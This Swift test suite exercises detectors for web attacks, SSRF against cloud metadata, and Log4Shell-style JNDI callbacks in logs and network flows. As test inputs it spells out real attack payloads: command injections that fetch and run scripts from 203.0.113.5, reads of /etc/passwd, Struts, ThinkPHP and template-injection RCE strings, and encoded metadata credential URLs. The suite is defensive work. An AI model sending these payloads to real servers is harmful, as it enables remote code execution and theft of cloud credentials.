import Evidence
import Testing

@testable import Detectors

private func request(
  _ path: String, _ query: String = "", client: String = "203.0.113.66", status: Int64? = nil,
  agent: String = "Mozilla/5.0", unseen: Int64? = nil
) -> Event {
  var attributes: [Attribute] = [
    Attribute("client_ip", client), Attribute("uri", path), Attribute("user_agent", agent),
    Attribute("action", "ALLOW"),
  ]
  attributes.add("query", query)
  attributes.add("status", status)
  attributes.add("body_unseen", unseen)
  return Event(
    time: nil, dataType: status == nil ? "aws:waf:request" : "web:access:request", message: "", attributes: attributes,
    locator: .whole)
}

@Suite struct WebTests {
  @Test func aScanIsLowUnlessSomethingWasThere() {
    let scan = [request("/.env", status: 404), request("/manager/html", status: 404), request("/", status: 200)]
    #expect(findings(WebScan(artifact: artifact), scan).map(\.severity) == [.low])
    let leak = [request("/.env", status: 200), request("/.git/config", status: 404)]
    #expect(findings(WebScan(artifact: artifact), leak).map(\.severity) == [.medium])
  }

  @Test(
    arguments: [
      ("/ping", "host=127.0.0.1;curl%20http://203.0.113.5/x.sh|sh", "web.command-injection"),
      ("/ping", "host=`wget+-O-+http://203.0.113.5/x`", "web.command-injection"),
      ("/ping", "host=127.0.0.1;id", "web.command-injection"), ("/ping", "host=`id`", "web.command-injection"),
      ("/ping", "host=127.0.0.1%3Bcat%20/etc/passwd", "web.command-injection"),
      ("/ping", "host=%7Cwhoami", "web.command-injection"), ("/a", "n=$(sleep+5)", "web.command-injection"),
      (
        "/index.php", "s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system",
        "web.injection"
      ),
      ("/i.php", "page=php://filter/convert.base64-encode/resource=index", "web.injection"),
      ("/wfs", "valueReference=exec(java.lang.Runtime.getRuntime(),'id')", "web.injection"),
      ("/h", "n={{config.__class__.__init__.__globals__['os']}}", "web.injection"),
      ("/ping", "host=$(curl${IFS}http://203.0.113.5/x)", "web.command-injection"),
      ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "web.path-traversal"),
      (
        "/index.action", "redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{%22id%22}))",
        "web.injection"
      ),
      ("/uploads/favicon.ico.jsp", "", "web.web-shell"),
      ("/search", "q=curl+http+header", nil), ("/search", "q=how+to+use+curl;+wget", nil),
      ("/search", "q=java.lang.ProcessBuilder", nil), ("/img/a.ico", "", nil), ("/bin/sh", "", nil),
      ("/docs/v1.txt/page.jsp", "", nil),
    ] as [(String, String, String?)])
  func commandsPathsAndNames(_ path: String, _ query: String, _ rule: String?) {
    let found = findings(WebRequests(artifact: artifact), [request(path, query, status: 200)])
    #expect(found.map(\.rule) == (rule.map { [$0] } ?? []))
  }

  @Test func aFunctionWhereABrowserNamesItself() {
    let agents = ["() { :; }; /bin/bash -c id", "Mozilla/5.0 () { foo"]
    let found = agents.map { findings(WebRequests(artifact: artifact), [request("/a", status: 200, agent: $0)]).count }
    #expect(found == [1, 0])
  }

  @Test func aToolNamesItself() {
    #expect(findings(WebScan(artifact: artifact), [request("/", status: 200, agent: "sqlmap/1.7")]).count == 1)
  }

  @Test func healthChecksAndVisitorsAreNone() {
    let visits = [
      request("/actuator/health", client: "10.0.1.37", agent: "ELB-HealthChecker/2.0"), request("/robots.txt"),
      request("/login.do"), request("/.env", client: "198.51.100.3"),
      request("/board/list.do", "q=%24%7Bprice%7D+discount"), request("/product/view.do", "id=1201%27s"),
    ]
    #expect(findings(WebScan(artifact: artifact), visits).isEmpty)
    #expect(findings(WebRequests(artifact: artifact), visits).isEmpty)
  }

  @Test(
    arguments: [
      ("/uploads/a.jsp", "cmd=cat+/etc/passwd", 200, "web.web-shell", .high),
      ("/shell.jsp", "", 404, "web.web-shell", .low), ("/api", "exec=whoami", 500, "web.command-injection", .medium),
      (
        "/a", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 400, "web.injection",
        .medium
      ), ("/%24%7Bscript:javascript:x%7D", "", 400, "web.injection", .medium),
      ("/..%2f..%2f..%2fetc/passwd", "", 400, "web.path-traversal", .low),
      ("/x", "f=../../../../etc/passwd", 200, "web.path-traversal", .medium),
    ] as [(String, String, Int64, String, Severity)])
  func attacksInRequests(path: String, query: String, status: Int64, rule: String, severity: Severity) {
    let found = findings(WebRequests(artifact: artifact), [request(path, query, status: status)])
    #expect(found.map(\.rule) == [rule])
    #expect(found.first?.severity == severity)
  }

  @Test(
    arguments: [
      ("url=http://169.254.169.254/latest/meta-data/iam/security-credentials/web", 200, .high),
      // Scanners guess a name; only who has read the list knows it.
      ("url=http://169.254.169.254/latest/meta-data/iam/security-credentials/admin", 200, .medium),
      ("url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F", 200, .medium),
      (
        "url=http%253A%252F%252F0251.0376.0251.0376%252Flatest%252Fmeta-data%252Fiam%252Fsecurity-credentials", 500,
        .medium
      ),
      ("url=http://2852039166/latest/meta-data/iam/security-credentials/", 404, .low),
      ("url=http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/", 200, .medium),
      ("url=http://169.254.170.2/v2/credentials/x", 200, .medium),
      ("url=http://169.254.169.254/latest/meta-data/", 200, .low),
    ] as [(String, Int64, Severity)])
  func theInstancesKeysThroughTheServer(query: String, status: Int64, severity: Severity) {
    let found = findings(WebRequests(artifact: artifact), [request("/f", query, status: status)])
    #expect(found.map(\.rule) == ["web.metadata-request"])
    #expect(found.first?.severity == severity)
    #expect(found.first?.attack.contains("T1552.005") == true)
  }

  @Test(arguments: [
    "url=http://203.0.113.1/latest/meta-data/iam/security-credentials/", "q=security-credentials", "q=169.254.169.254",
    "v=1.2.3.4&page=meta-data",
  ])
  func otherAddressesAreNone(query: String) {
    #expect(findings(WebRequests(artifact: artifact), [request("/f", query, status: 200)]).isEmpty)
  }

  private func sized(_ path: String, _ query: String = "", status: Int64 = 200, size: Int64) -> Event {
    var event = request(path, query, status: status)
    event.attributes.append(Attribute("bytes", size))
    return event
  }

  /// Every scanner's wish comes true: pages of one make, or that repeat what was asked for.
  @Test func aSiteThatAnswersEverythingHasNoWebShell() {
    let wishes = [
      ("/shell.jsp", "cmd=whoami"), ("/setup.cgi", "cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m"),
      ("/struts2-showcase/${(#a=@java.lang.Runtime)}/i", ""), ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", ""),
      ("/download", "file=../../../../etc/passwd"), ("/proxy", "url=http://169.254.169.254/latest/meta-data/"),
      ("/index.php", "s=<?php"),
    ]
    func grave(_ events: [Event]) -> Int {
      findings(WebRequests(artifact: artifact), events).count { $0.severity >= .high }
    }
    let echo = wishes.enumerated().map { sized($0.element.0, $0.element.1, size: 900 + Int64($0.offset)) }
    #expect(grave(echo) == 0)
    // One that refuses what is not there had the shell.
    #expect(grave(echo + [sized("/c99.php", status: 404, size: 90)]) >= 1)
    #expect(grave(Array(echo.prefix(3))) == 1)
  }

  @Test func aFileFromOutsideTheRoot() {
    let climb = "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"
    let refused = sized("/shell.jsp", status: 404, size: 90)
    func severity(_ events: [Event]) -> Severity? {
      findings(WebRequests(artifact: artifact), events).first { $0.rule == "web.path-traversal" }?.severity
    }
    #expect(severity([sized(climb, size: 1830), refused]) == .high)
    // A page that is shown for whatever it does not know; nothing known of the site; a parameter; nothing in it.
    #expect(severity([sized(climb, size: 1532), sized("/a/..%2f..%2fetc/passwd", size: 1532), refused]) == .medium)
    #expect(severity([sized(climb, size: 1830)]) == .medium)
    #expect(severity([sized("/x", "f=../../../../etc/passwd", size: 1830), refused]) == .medium)
    #expect(severity([sized(climb, size: 0), refused]) == .medium)
  }

  @Test(arguments: ["aws:alb:request", "aws:cloudfront:request"])
  func theRequestsOfWhatStandsInFrontAreJudgedToo(_ dataType: String) {
    let event = Event(
      time: nil, dataType: dataType, message: "",
      attributes: [
        Attribute("client_ip", "203.0.113.66"), Attribute("uri", "/f"), Attribute("response_code", 404),
        Attribute("query", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/web"),
      ], locator: .whole)
    #expect(findings(WebRequests(artifact: artifact), [event]).map(\.severity) == [.low])
  }

  @Test(arguments: [
    ("/list", "fields=name;id"), ("/list", "sort=name|id"), ("/q", "q=a;cat+food"), ("/q", "q=less;more"),
    ("/q", "price=$(amount)"), ("/q", "q=wait;sleep+well"),
    ("/search", "c=ls"), ("/shop", "cmd=add&item=3"), ("/help", "run=daily"), ("/a/../b", ""), ("/docs/etc/", "page=2"),
  ])
  func lookAlikesAreNone(path: String, query: String) {
    #expect(findings(WebRequests(artifact: artifact), [request(path, query, status: 200)]).isEmpty)
  }

  @Test(
    arguments: [
      ("/up/a.jsp", "CMD=cat%20/etc/passwd", .high), ("/rest.php", "x=1&cmd=id", .medium),
      ("/wp-content/uploads/2026/a.php", "cmd=id", .high), ("/c99.php", "cmd=id", .high),
      ("/x.ashx", "cmd=whoami", .high),
      ("/x.CFM", "cmd=whoami", .high), ("/x.asp", "i=whoami&pwd=023", .high), ("/a.php", "cmd=$(id)", .high),
      ("/a.php", "c=/bin/sh+-c+id", .high), ("/wp-admin/admin-ajax.php", "action=x&cmd=ls", .medium),
      ("/files/connector.minimal.php", "cmd=ls&target=l1_Lw&reqid=18c", nil),
      ("/files/connector.minimal.php", "cmd=ping&init=1", nil), ("/find.php", "c=id+card", .medium),
      ("/files/connector.minimal.php", "cmd=cat+/etc/passwd&target=l1_Lw", .high), ("/find.php", "c=id", nil),
    ] as [(String, String, Severity?)])
  func commandsOfAShellAndOfOtherThings(path: String, query: String, severity: Severity?) {
    let found = findings(WebRequests(artifact: artifact), [request(path, query, status: 200)])
    #expect(found.map(\.severity) == (severity.map { [$0] } ?? []))
  }

  private func sized(_ path: String, _ size: Int64, status: Int64 = 200, second: Int64 = 0) -> Event {
    var event = request(path, "cmd=id", status: status)
    event.attributes.append(Attribute("response_bytes", size))
    event.time = Timestamp(seconds: 1_700_000_000 + second)
    return event
  }

  @Test func aSiteThatAnswersEverythingHasNoShell() {
    let guesses = ["/shell.php", "/cmd.php", "/c99.php"]
    let alike = findings(WebRequests(artifact: artifact), guesses.map { sized($0, 366) })
    #expect(alike.map(\.severity) == [.medium, .medium, .medium])
    // One answer that is another is one.
    let one = guesses.map { sized($0, $0 == "/cmd.php" ? 54 : 366) }
    #expect(findings(WebRequests(artifact: artifact), one).contains { $0.severity == .high })
    let missing = guesses.map { sized($0, 366, status: $0 == "/cmd.php" ? 200 : 404) }
    #expect(findings(WebRequests(artifact: artifact), missing).map(\.severity) == [.low, .high, .low])
  }

  @Test func whatOneClientSendsToOnePathIsOneFinding() {
    let day: Int64 = 24 * 3600
    let requests = (0..<100).map { sized("/up/a.jsp", 10, second: $0) } + [sized("/up/a.jsp", 10, second: 90 * day)]
    let found = findings(WebRequests(artifact: artifact), requests)
    #expect(found.count == 2)
    #expect(found.first?.message.hasSuffix("There are 100 such requests.") == true)
    #expect(found.first?.evidence.count == 16)
    #expect(found.first?.lastSeen == Timestamp(seconds: 1_700_000_099))
    // The gravest speaks.
    let mixed = [sized("/up/a.jsp", 10, status: 404), sized("/up/a.jsp", 10)]
    #expect(findings(WebRequests(artifact: artifact), mixed).map(\.severity) == [.high])
  }

  @Test(arguments: ["aws:alb:request", "aws:cloudfront:request"])
  func scansOfWhatStandsInFront(_ dataType: String) {
    let events = ["/.env", "/.git/config"].map {
      Event(
        time: nil, dataType: dataType, message: "",
        attributes: [Attribute("client_ip", "203.0.113.66"), Attribute("uri", $0), Attribute("response_code", 200)],
        locator: .whole)
    }
    #expect(findings(WebScan(artifact: artifact), events).map(\.severity) == [.medium])
  }

  @Test func aBodyThatWasNotInspected() {
    #expect(
      findings(WebRequests(artifact: artifact), [request("/up", unseen: 4096)]).map(\.rule) == ["web.unseen-body"])
  }
}

@Suite struct JNDICallbackTests {
  @Test func javaOnAPortOfJNDIServersIsMediumAlone() {
    let found = findings(
      JNDICallback(artifact: artifact), [socket("java", 351, ("10.0.2.15", 43418), ("::ffff:203.0.113.66", 1389))])
    #expect(found.map(\.severity) == [.medium])
    let quiet = [
      socket("java", 351, ("10.0.2.15", 1), ("10.0.3.30", 1389)),
      socket("java", 351, ("10.0.2.15", 1), ("198.51.100.10", 443)),
      socket("slapd", 1, ("10.0.2.15", 1), ("203.0.113.66", 1389)),
    ]
    #expect(findings(JNDICallback(artifact: artifact), quiet).isEmpty)
  }

  @Test func acceptedFlowsOnly() {
    func flow(_ action: String) -> Event {
      Event(
        time: nil, dataType: "aws:vpcflow:record", message: "",
        attributes: [
          Attribute("src_address", "10.0.2.15"), Attribute("dst_address", "203.0.113.66"), Attribute("src_port", 50488),
          Attribute("dst_port", 1389), Attribute("action", action),
        ], locator: .whole)
    }
    #expect(findings(JNDICallback(artifact: artifact), [flow("ACCEPT"), flow("ACCEPT")]).count == 1)
    // What was blocked is a try.
    let blocked = findings(JNDICallback(artifact: artifact), [flow("REJECT")])
    #expect(blocked.map(\.severity) == [.low] && blocked.first?.message.contains("was blocked") == true)
  }

  @Test(
    arguments: [
      ("aws:vpcflow:record", ["pkt_src_address": "10.0.2.15", "pkt_dst_address": "203.0.113.66"], 1),
      ("aws:vpcflow:record", ["src_address": "100.64.3.9", "dst_address": "203.0.113.66"], 1),
      (
        "aws:vpcflow:record",
        ["src_address": "2600:1f18:aa::15", "dst_address": "2001:db8::66", "flow_direction": "egress"], 1
      ), ("aws:vpcflow:record", ["src_address": "2600:1f18:aa::15", "dst_address": "2001:db8::66"], 0),
      ("aws:networkfirewall:flow", ["src_address": "10.0.2.15", "dst_address": "203.0.113.66"], 1),
      ("aws:vpcflow:record", ["src_address": "10.0.2.15", "dst_address": "100.64.3.9"], 0),
      ("aws:vpcflow:record", ["src_address": "203.0.113.66", "dst_address": "10.0.2.15"], 0),
    ] as [(String, [String: String], Int)])
  func flowsOfEveryKind(type: String, ends: [String: String], count: Int) {
    let event = Event(
      time: nil, dataType: type, message: "",
      attributes: ends.sorted { $0.key < $1.key }.map { Attribute($0.key, $0.value) } + [
        Attribute("src_port", 50488), Attribute("dst_port", 1389),
      ], locator: .whole)
    #expect(findings(JNDICallback(artifact: artifact), [event]).count == count)
  }
}

@Suite struct DetectorCatalogTests {
  @Test func allKindsAreVersioned() {
    let detectors = DetectorCatalog.makeEventDetectors(artifact: artifact).flatMap { detector -> [any EventDetector] in
      (detector as? CloudCallDetectors)?.detectors ?? [detector]
    }
    #expect(DetectorCatalog.version.split(separator: ",").count == detectors.count + TextDetectors.all.count)
    for detector in detectors { #expect(DetectorCatalog.version.contains("\(type(of: detector))")) }
  }

  /// Events with nothing in them, or with the wrong types, are passed over.
  @Test func emptyEventsAreSafe() {
    let kinds = [
      "aws:waf:request", "web:access:request", "linux:capture:process", "linux:capture:socket", "linux:shell:command",
      "aws:cloudtrail:entry", "aws:vpcflow:record", "",
    ]
    let names = [
      "pid", "ppid", "remote_port", "local_port", "event_name", "source_ip", "command", "command_line", "uri", "query",
      "labels", "state", "session_name", "fd_number",
    ]
    for kind in kinds {
      for value in [Value.text(""), .text("\u{0}${"), .integer(.min), .flag(true), .texts([]), .texts(["", "i-"])] {
        let event = Event(
          time: nil, dataType: kind, message: "", attributes: names.map { Attribute($0, value) }, locator: .whole)
        for detector in DetectorCatalog.makeEventDetectors(artifact: artifact) {
          let found = findings(detector, [event, event])
          #expect(found.allSatisfy { !$0.evidence.isEmpty })
        }
      }
    }
  }
}
